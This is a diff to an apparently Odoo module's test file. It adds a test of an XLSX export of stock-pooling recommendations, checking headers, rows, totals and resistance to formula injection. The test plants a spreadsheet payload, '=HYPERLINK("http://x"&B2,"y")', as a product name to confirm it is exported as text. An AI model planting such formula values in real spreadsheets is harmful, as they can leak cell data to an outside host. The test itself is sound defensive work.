@@ -2,10 +2,13 @@
 network (a cycle), placement proposals through the approval flow, access rights and
 multi-company."""
 
+import base64
+import io
 import math
 import statistics
 from datetime import timedelta
 
+import openpyxl
 from odoo import fields
 from odoo.addons.stock_segment.tests.common import new_company_user
 from odoo.exceptions import AccessError, UserError
@@ -357,6 +360,41 @@ class TestNetwork(TransactionCase):
             self.assertEqual(row.recommendation, "central")
             self.assertGreater(row.local_value, row.central_value)
         self.assertEqual(len(self.env["stock.network.pooling"].with_user(self.user).search([])), 2)
+
+    def test_pooling_xlsx_export(self):
+        evil = '=HYPERLINK("http://x"&B2,"y")'
+        self.products[0].name = evil
+        self.Network._run_placement(companies=self.company)
+        rows = self.env["stock.network.pooling"].search([("company_id", "=", self.company.id)])
+        wizard = self.env["stock.network.pooling.export"].with_user(self.user).create({})
+        action = wizard.with_context(allowed_company_ids=self.company.ids).action_export()
+        self.assertIn("/web/content/", action["url"])
+        self.assertTrue(wizard.file_name.endswith(".xlsx"))
+        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(wizard.file_data)))
+        detail, summary = book.worksheets
+        header = [c.value for c in detail[1]]
+        self.assertEqual(header[:3], ["Analysed On", "Warehouse Pair", "Product"])
+        body = list(detail.iter_rows(min_row=2, values_only=True))
+        self.assertEqual(len(body), len(rows))
+        by_product = {r[2]: r for r in body}
+        for row in rows:
+            line = by_product[row.product_id.display_name]
+            self.assertEqual(line[1], "NOR + SOU")
+            self.assertAlmostEqual(
+                line[header.index("Safety Stock (local)")], row.local_safety_stock
+            )
+            self.assertAlmostEqual(line[header.index("Net Saving / Day")], row.net_saving)
+            self.assertEqual(line[header.index("Recommendation")], "Pool centrally")
+        # Totals per segment and pair: the two products of the one segment and pair.
+        totals = list(summary.iter_rows(min_row=2, values_only=True))
+        self.assertEqual(len(totals), 1)
+        self.assertEqual(totals[0][1:4], ("NOR + SOU", 2, 2))
+        self.assertAlmostEqual(totals[0][4], sum(rows.mapped("local_value")), places=2)
+        self.assertAlmostEqual(totals[0][6], sum(rows.mapped("net_saving")), places=2)
+        # A name that looks like a formula stays text.
+        cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+        self.assertTrue(any(c.value == evil and c.data_type == "s" for c in cells))
+        self.assertFalse([c for c in cells if c.data_type == "f"])
 
     def test_exceptions(self):
         self.env["ir.config_parameter"].sudo().set_param(
